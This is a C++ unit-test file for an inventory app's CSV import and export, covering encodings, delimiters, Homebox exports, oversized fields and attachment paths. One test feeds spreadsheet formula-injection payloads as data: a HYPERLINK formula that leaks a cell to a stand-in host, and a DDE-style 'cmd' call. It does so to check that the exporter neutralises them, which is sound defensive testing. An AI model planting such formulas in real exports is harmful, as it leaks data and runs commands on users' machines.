#include "state/item_fields.h"
#include "state/item_import.h"
#include "state/item_values.h"

#include <QDate>

#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <thread>

#include <sys/stat.h>

namespace stowfolio {
namespace {

class ItemImportTest : public ::testing::Test
{
protected:
    QString write(const QByteArray& bytes, const QString& name = QStringLiteral("items.csv"))
    {
        const QString path = m_dir.filePath(name);
        QFile file(path);
        EXPECT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(bytes);
        return path;
    }
    ItemImport import(const QByteArray& bytes, int room = 65526)
    {
        return importCsvFile(write(bytes), room, InventoryConventions{});
    }

    QTemporaryDir m_dir;
};

QStringList item(std::initializer_list<std::pair<int, QString>> fields)
{
    QStringList row(12);
    for (const auto& [field, text] : fields)
        row[field] = text;
    return row;
}

TEST_F(ItemImportTest, ColumnsAreMatchedByNameInAnyOrder)
{
    const ItemImport result = import("Serial Number,ROOM ,Item,Replacement Value,Colour,Cost\r\n"
                                     "SN-1,Kitchen,Toaster,25,red,30\r\n"
                                     ",,,,,\r\n"
                                     "SN-2,Attic,Trunk,150,,\r\n");
    EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    EXPECT_EQ(result.items,
              (QList<QStringList>{
                  item({{0, "Kitchen"}, {1, "Toaster"}, {5, "30"}, {7, "25"}, {9, "SN-1"}}),
                  item({{0, "Attic"}, {1, "Trunk"}, {7, "150"}, {9, "SN-2"}})}));
    EXPECT_EQ(result.ignoredColumns, QStringList{"Colour"});
    EXPECT_EQ(result.skippedRows, QStringList{"row 3: it is empty"});
}

// Homebox's export, as its CSV reference names the columns.
TEST_F(ItemImportTest, HomeboxExportsMapToTheTwelveFields)
{
    const ItemImport result =
        import("HB.import_ref\tHB.location\tHB.name\tHB.quantity\tHB.description\tHB.notes\t"
               "HB.purchase_price\tHB.purchase_from\tHB.purchase_time\tHB.manufacturer\t"
               "HB.model_number\tHB.serial_number\tHB.lifetime_warranty\tHB.warranty_expires\t"
               "HB.warranty_details\n"
               "r1\tGarage\tRelay\t1\tZ-Wave relay\tspare\t39.95\tAmazon\t2021-10-13\tZooz\tZEN17\t"
               "A1\tfalse\t2023-10-13\t2 years\n"
               "r2\tOffice\tDesk\t1\t\t\t0\t\t\t\t\t\ttrue\t\t\n");
    ASSERT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    ASSERT_EQ(result.items.size(), 2);
    EXPECT_EQ(result.items[0], item({{0, "Garage"},
                                     {1, "Relay"},
                                     {2, "2021-10-13"},
                                     {3, "Amazon"},
                                     {4, "until 2023-10-13; 2 years"},
                                     {5, "39.95"},
                                     {8, "Zooz ZEN17"},
                                     {9, "A1"},
                                     {10, "Z-Wave relay; spare"}}));
    EXPECT_EQ(result.items[1], item({{0, "Office"}, {1, "Desk"}, {4, "Lifetime"}}));
    EXPECT_EQ(result.ignoredColumns, (QStringList{"HB.import_ref", "HB.quantity"}));
}

// Homebox's newer exports: items archived or sold are no longer in the house and are left out;
// a quantity goes into the notes; days are written as ISO times.
TEST_F(ItemImportTest, HomeboxArchivedAndSoldItemsAreLeftOutAndQuantitiesKept)
{
    const ItemImport result =
        import("HB.import_ref\tHB.location\tHB.name\tHB.quantity\tHB.notes\tHB.archived\t"
               "HB.purchase_price\tHB.purchase_time\tHB.warranty_expires\tHB.sold_to\t"
               "HB.sold_price\tHB.sold_time\n"
               "r1\tKitchen\tChair\t3\toak\tfalse\t45\t2023-11-24T00:00:00Z\t"
               "2025-11-24T00:00:00Z\t\t0\t0001-01-01T00:00:00Z\n"
               "r2\tAttic\tOld TV\t1\t\ttrue\t200\t\t\t\t0\t\n"
               "r3\tGarage\tBike\t1\t\tfalse\t300\t\t\tAnn\t150\t2024-05-01T00:00:00Z\n"
               "r4\tShed\tRake\t1\t\tFALSE\t12\t2020-04-01T10:30:00+02:00\t\t\t0\t\n");
    ASSERT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    ASSERT_EQ(result.items.size(), 2);
    EXPECT_EQ(result.items[0], item({{0, "Kitchen"},
                                     {1, "Chair"},
                                     {2, dateText(QDate(2023, 11, 24), {})},
                                     {4, "until " + dateText(QDate(2025, 11, 24), {})},
                                     {5, "45"},
                                     {10, "oak; Quantity: 3"}}));
    EXPECT_EQ(result.items[1],
              item({{0, "Shed"}, {1, "Rake"}, {2, dateText(QDate(2020, 4, 1), {})}, {5, "12"}}));
    EXPECT_EQ(result.leftOutItems,
              (QStringList{"row 3 \"Old TV\" (archived)", "row 4 \"Bike\" (sold)"}));
    EXPECT_EQ(result.quantitiesInNotes, 1);
    EXPECT_EQ(result.ignoredColumns, QStringList{"HB.import_ref"});
    const QString details = importDetails(result).join(QLatin1Char('\n'));
    EXPECT_TRUE(details.contains(QStringLiteral("2 archived or sold items are not added: row 3 "
                                                "\"Old TV\" (archived); row 4 \"Bike\" (sold).")))
        << details.toStdString();
    EXPECT_TRUE(details.contains(QStringLiteral("1 item has a quantity above 1")))
        << details.toStdString();
}

TEST_F(ItemImportTest, EncodingsAndDelimitersAreFound)
{
    const QList<QStringList> expected = {item({{0, "Salle à manger"}, {1, "Commode € 1"}})};
    const struct
    {
        const char* name;
        QByteArray bytes;
    } cases[] = {
        {"UTF-8 with a byte-order mark, commas",
         "\xEF\xBB\xBFLocation,Description\r\nSalle \xC3\xA0 manger,Commode \xE2\x82\xAC 1\r\n"},
        {"UTF-8 without, semicolons",
         "Location;Description\nSalle \xC3\xA0 manger;Commode \xE2\x82\xAC 1\n"},
        {"Windows-1252, tabs", "Location\tDescription\nSalle \xE0 manger\tCommode \x80 1\n"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const ItemImport result = import(c.bytes);
        EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
        EXPECT_EQ(result.items, expected);
    }
}

// A spreadsheet's comma-separated export whose notes are lists written with semicolons.
TEST_F(ItemImportTest, SemicolonsInNotesDoNotChangeTheDelimiter)
{
    const ItemImport result = import("Location,Description,Notes\r\n"
                                     "Hall,Coat rack,hooks; hats; scarves; gloves; umbrellas\r\n"
                                     "Den,Lamp,bulb; shade; cord; switch; plug\r\n");
    EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    EXPECT_EQ(
        result.items,
        (QList<QStringList>{
            item({{0, "Hall"}, {1, "Coat rack"}, {10, "hooks; hats; scarves; gloves; umbrellas"}}),
            item({{0, "Den"}, {1, "Lamp"}, {10, "bulb; shade; cord; switch; plug"}})}));
}

// The file is read a piece at a time (1 MiB at present). A character whose bytes are split
// between two pieces arrives whole. A character straddles each power-of-two offset from 4 KiB to
// 4 MiB, so the test holds whatever the piece size becomes; two-, three- and four-byte
// characters take turns, split after each of their bytes in turn.
TEST_F(ItemImportTest, ACharacterSplitBetweenTwoPiecesOfTheFileArrivesWhole)
{
    const char* const characters[] = {"\xC3\xA9", "\xE4\xB8\xAD", "\xF0\x9F\x99\x82"};
    QByteArray bytes("Location,Description,Notes\n");
    QList<QStringList> expected;
    int variant = 0;
    for (int power = 12; power <= 22; ++power) {
        const QByteArray character = characters[variant % 3];
        // How many of its bytes come before the offset: 1 up to all but one.
        const qsizetype before = 1 + (variant / 3) % (character.size() - 1);
        ++variant;
        const QByteArray start = "Attic,Box " + QByteArray::number(power) + ",";
        // Rows of filler, each shorter than a cell holds, bring the character to its offset.
        qsizetype padding = (qsizetype(1) << power) - before - bytes.size() - start.size();
        ASSERT_GE(padding, 0);
        while (padding > 30000) {
            const QByteArray filler = "Filler,," + QByteArray(20000, 'f') + "\n";
            bytes += filler;
            padding -= filler.size();
        }
        const QByteArray notes = QByteArray(padding, 'x') + character;
        bytes += start + notes + "\n";
        expected << item({{0, "Attic"},
                          {1, QStringLiteral("Box %1").arg(power)},
                          {10, QString::fromUtf8(notes)}});
    }
    const ItemImport result = import(bytes);
    EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    QList<QStringList> boxes;
    for (const QStringList& imported : result.items)
        if (imported[0] == QStringLiteral("Attic"))
            boxes << imported;
    ASSERT_EQ(boxes.size(), expected.size());
    for (qsizetype i = 0; i < expected.size(); ++i) {
        SCOPED_TRACE(expected[i][1].toStdString());
        // The notes' ends, where the split character is: a failure prints no megabytes.
        EXPECT_EQ(boxes[i][10].right(8).toStdString(), expected[i][10].right(8).toStdString());
        EXPECT_TRUE(boxes[i] == expected[i]);
    }
}

TEST_F(ItemImportTest, SeparatorsAreReplacedAndCounted)
{
    const ItemImport result = import("Location,Notes\nA|B,x^y^z\n");
    ASSERT_EQ(result.items.size(), 1);
    EXPECT_EQ(result.items[0], item({{0, "A/B"}, {10, "x'y'z"}}));
    EXPECT_EQ(result.replacedSeparators, 3);
    EXPECT_EQ(importDetails(result).value(0),
              QStringLiteral("3 \"|\" or \"^\" characters, which the list cannot keep, were "
                             "replaced by \"/\" and \"'\"."));
}

// Every file that cannot be imported is refused with its name and the reason, adding nothing.
TEST_F(ItemImportTest, FilesThatCannotBeImportedSayWhy)
{
    const struct
    {
        const char* name;
        QByteArray bytes;
        int room;
        const char* reason;
    } cases[] = {
        {"empty", "", 10, "items.csv cannot be imported: it is empty."},
        {"header only", "Location,Description\r\n", 10,
         "items.csv cannot be imported: it holds no items below its header row."},
        {"binary", QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16), 10,
         "items.csv cannot be imported: it is not a text file."},
        {"someone else's layout", "Foo,Bar\n1,2\n", 10,
         "items.csv cannot be imported: none of its columns is one Stowfolio knows"},
        {"more than fits", "Location\na\nb\nc\nd\n", 2,
         "items.csv holds 4 items, but the list has room for only 2 more"},
        {"one too many", "Location\na\nb\nc\n", 2,
         "items.csv holds 3 items, but the list has room for only 2 more"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const ItemImport result = import(c.bytes, c.room);
        EXPECT_TRUE(result.problem.startsWith(QString::fromUtf8(c.reason)))
            << result.problem.toStdString();
        EXPECT_TRUE(result.items.isEmpty());
    }
    EXPECT_EQ(import("Location\na\nb\n", 2).items.size(), 2);
}

// Empty lines count for nothing, however many there are and wherever they stand: the file is
// read to its end (2.6 MB of empty fields here, more than one piece of reading), and the header
// is the first line that holds anything.
TEST_F(ItemImportTest, EmptyLinesAboveOrBelowTheHeaderDoNotHideTheItems)
{
    QByteArray items;
    QList<QStringList> expected;
    for (int i = 0; i < 5; ++i) {
        items += "Room " + QByteArray::number(i) + "\tItem " + QByteArray::number(i) + "\r\n";
        expected << item(
            {{0, QStringLiteral("Room %1").arg(i)}, {1, QStringLiteral("Item %1").arg(i)}});
    }
    const QByteArray header("Location\tDescription\r\n");
    const struct
    {
        const char* name;
        QByteArray bytes;
    } cases[] = {
        {"empty lines above the header", QByteArray("\r\n").repeated(200000) + header + items},
        {"empty lines below the header", header + QByteArray("\r\n").repeated(200000) + items},
        {"lines of empty fields above",
         QByteArray("\t\t\t\t\t\t\t\t\t\t\t\r\n").repeated(200000) + header + items},
        {"lines of empty fields below",
         header + QByteArray("\t\t\t\t\t\t\t\t\t\t\t\r\n").repeated(200000) + items},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const ItemImport result = import(c.bytes, 10);
        EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
        EXPECT_EQ(result.items, expected);
    }
    EXPECT_EQ(import(QByteArray("\r\n").repeated(10)).problem,
              QStringLiteral("items.csv cannot be imported: it holds nothing but empty lines."));
}

// What spreadsheets save as "Unicode text": UTF-16 with a byte-order mark, tab-separated.
TEST_F(ItemImportTest, Utf16TextWithAByteOrderMarkIsRead)
{
    const QString text =
        QStringLiteral("Location\tDescription\r\nSalle à manger\tCommode € 1 🙂\r\n");
    QByteArray littleEndian("\xFF\xFE");
    QByteArray bigEndian("\xFE\xFF");
    for (const QChar ch : text) {
        const char16_t unit = ch.unicode();
        littleEndian += char(unit & 0xFF);
        littleEndian += char(unit >> 8);
        bigEndian += char(unit >> 8);
        bigEndian += char(unit & 0xFF);
    }
    const QList<QStringList> expected = {
        item({{0, QStringLiteral("Salle à manger")}, {1, QStringLiteral("Commode € 1 🙂")}})};
    for (const QByteArray& bytes : {littleEndian, bigEndian}) {
        const ItemImport result = import(bytes);
        EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
        EXPECT_EQ(result.items, expected);
    }
}

// A named pipe is opened once and read once: what its writer wrote is all there.
TEST_F(ItemImportTest, ANamedPipeIsReadOnce)
{
    const QString pipe = m_dir.filePath(QStringLiteral("pipe"));
    ASSERT_EQ(::mkfifo(QFile::encodeName(pipe).constData(), 0600), 0);
    std::thread writer([pipe] {
        // Opening waits for the reader, as the reader's opening waits for this.
        QFile file(pipe);
        if (file.open(QIODevice::WriteOnly))
            file.write("Location,Description\nAttic,Box\n");
    });
    const ImportSource source = openImportSource(pipe);
    writer.join();
    EXPECT_TRUE(source.problem.isEmpty()) << source.problem.toStdString();
    EXPECT_TRUE(source.inMemory);
    const ItemImport result = importCsvSource(source, 10, InventoryConventions{});
    EXPECT_TRUE(result.problem.isEmpty()) << result.problem.toStdString();
    EXPECT_EQ(result.items, QList<QStringList>{item({{0, "Attic"}, {1, "Box"}})});
}

TEST_F(ItemImportTest, WhatIsNoFileIsNamedForWhatItIs)
{
    const struct
    {
        QString path;
        const char* problem;
    } cases[] = {
        {m_dir.path(), "cannot be imported: it is a folder, not a file."},
        {QStringLiteral("/dev/zero"), "zero cannot be imported: it is a device, not a file."},
        {m_dir.filePath(QStringLiteral("absent.csv")),
         "absent.csv cannot be imported: the file does not exist."},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.path.toStdString());
        const ItemImport result = importCsvFile(c.path, 10, InventoryConventions{});
        EXPECT_TRUE(result.problem.endsWith(QString::fromUtf8(c.problem)))
            << result.problem.toStdString();
        EXPECT_TRUE(result.items.isEmpty());
    }
}

TEST_F(ItemImportTest, RaggedRowsAndAnOpenQuoteAreToldNotLost)
{
    const ItemImport result = import("Location,Description\nA,B,extra\nC\n\"D,E\n");
    ASSERT_EQ(result.items.size(), 3);
    EXPECT_EQ(result.items[1], item({{0, "C"}}));
    EXPECT_EQ(result.items[2], item({{0, "D,E\n"}}));
    EXPECT_EQ(result.ignoredColumns, QStringList{"values past the last named column (row 2)"});
    EXPECT_EQ(result.skippedRows.size(), 1);
}

// A value longer than a sheet cell holds is cut to what the cell holds, and the rows it happened
// in are named; a line of a million empty columns keeps only the columns that can matter.
TEST_F(ItemImportTest, ValuesLongerThanACellAreCutAndTheirRowsNamed)
{
    QByteArray file = "Location,Description,Notes\nA,short,\n";
    file += "B," + QByteArray(3 * 1024 * 1024, 'x') + ",\n"; // one field of 3 MB
    file += "C,\"" + QByteArray(40000, 'q') + "\",\n";       // quoted
    file += "D," + QByteArray(20000, 'm') + " " + QByteArray(20000, 'n') + "\n";
    file += "E" + QByteArray(1000000, ',') + "\n"; // a million columns
    const ItemImport result = import(file);
    ASSERT_EQ(result.items.size(), 5);
    EXPECT_EQ(result.items[1][1].size(), kMaxFieldLength);
    EXPECT_EQ(result.items[2][1], QString(kMaxFieldLength, QLatin1Char('q')));
    EXPECT_EQ(result.items[3][1].size(), kMaxFieldLength);
    EXPECT_EQ(result.items[4], item({{0, "E"}}));
    EXPECT_EQ(result.cutRows, (QList<int>{3, 4, 5, 6}));
    EXPECT_TRUE(importDetails(result).join('\n').contains(
        QStringLiteral("Cut to 32,767 characters, what a sheet cell holds: a value in row 3, 4, "
                       "5, 6.")));
}

TEST_F(ItemImportTest, ExportedItemsImportAsTheyWere)
{
    const QList<QStringList> items = {
        item({{0, "Kitchen"}, {1, "Toaster, \"chrome\""}, {2, "3/4/2019"}, {10, "two\nlines"}}),
        item({{11, "/home/ann/été.jpg"}})};
    const QByteArray csv = itemsAsCsv({itemFromTexts(items[0]), itemFromTexts(items[1])});
    EXPECT_TRUE(csv.startsWith("\xEF\xBB\xBFLocation,Description,Date,Where,Warranty,Price,"
                               "Condition,Est. Value,Model,Serial #,Notes,Photo\r\n"));
    const ItemImport result = import(csv);
    EXPECT_EQ(result.items, items);
    EXPECT_TRUE(result.ignoredColumns.isEmpty());
}

// Fields a spreadsheet program would open as formulas are written guarded, and what is read
// back is written as the same bytes again; the longest field a cell holds is not cut by its
// guard.
TEST_F(ItemImportTest, HostileFieldsSurviveExportImportExportByteForByte)
{
    const QList<QStringList> items = {
        item({{0, "=HYPERLINK(\"http://x?leak=\"&B3,\"click\")"},
              {1, "+cmd' /C calc'!A0"},
              {2, "-2+3"},
              {3, "@SUM(A1:A9)"},
              {4, "\t=1"},
              {5, "-12.50"},
              {6, "'=already quoted"},
              {7, "+3"},
              {8, "'-7"},
              {9, "\r\n=2"},
              {10, "=" + QString(kMaxFieldLength - 1, QLatin1Char('z'))},
              {11, "'"}}),
        item({{0, "Kitchen"}, {7, "-"}})};
    std::vector<Item> exported;
    for (const QStringList& texts : items)
        exported.push_back(itemFromTexts(texts));
    const QByteArray first = itemsAsCsv(exported);
    EXPECT_TRUE(first.contains("\r\n\"'=HYPERLINK(\"\"http://x?leak=\"\"&B3,\"\"click\"\")\","
                               "'+cmd' /C calc'!A0,'-2+3,'@SUM(A1:A9),'\t=1,-12.50,"
                               "'=already quoted,+3,'-7,\"'\r\n=2\",'="));
    EXPECT_TRUE(first.endsWith("\r\nKitchen,,,,,,,'-,,,,\r\n"));

    const ItemImport imported = import(first);
    ASSERT_TRUE(imported.problem.isEmpty()) << imported.problem.toStdString();
    EXPECT_TRUE(imported.cutRows.isEmpty());
    ASSERT_EQ(imported.items.size(), items.size());
    // Every field reads back as it was, but for one that held a guard's apostrophe itself.
    QStringList expected = items[0];
    expected[6] = QStringLiteral("=already quoted");
    EXPECT_EQ(imported.items[0], expected);
    EXPECT_EQ(imported.items[1], items[1]);

    std::vector<Item> again;
    for (const QStringList& texts : imported.items)
        again.push_back(itemFromTexts(texts));
    EXPECT_EQ(itemsAsCsv(again), first);
}

} // namespace
} // namespace stowfolio

namespace stowfolio {
namespace {

TEST_F(ItemImportTest, AnAttachmentsColumnGivesEachItemItsFilesFromTheFilesFolder)
{
    const ItemImport imported = import("Description,ATTACHMENTS:\n"
                                       "Drill,photos/drill.jpg; ;/srv/receipts/drill.pdf;\n"
                                       "Lamp,\n"
                                       "\n"
                                       "Saw,\"a;b/../c.txt\"\n");
    ASSERT_TRUE(imported.problem.isEmpty()) << imported.problem.toStdString();
    ASSERT_EQ(imported.items.size(), 3);
    ASSERT_EQ(imported.attachments.size(), 3);
    EXPECT_EQ(imported.attachments[0],
              QStringList({m_dir.filePath(QStringLiteral("photos/drill.jpg")),
                           QStringLiteral("/srv/receipts/drill.pdf")}));
    EXPECT_TRUE(imported.attachments[1].isEmpty());
    EXPECT_EQ(imported.attachments[2], QStringList({m_dir.filePath(QStringLiteral("a")),
                                                    m_dir.filePath(QStringLiteral("c.txt"))}));
    EXPECT_EQ(imported.fileRows, QList<int>({2, 3, 5}));
    EXPECT_EQ(attachmentCount(imported), 4);
    EXPECT_TRUE(imported.ignoredColumns.isEmpty());
}

TEST_F(ItemImportTest, WithoutAnAttachmentsColumnNoItemBringsFiles)
{
    const ItemImport imported = import("Description,Photo\nDrill,drill.jpg\n");
    ASSERT_TRUE(imported.problem.isEmpty());
    EXPECT_TRUE(imported.attachments.isEmpty());
    EXPECT_EQ(attachmentCount(imported), 0);
}

} // namespace
} // namespace stowfolio
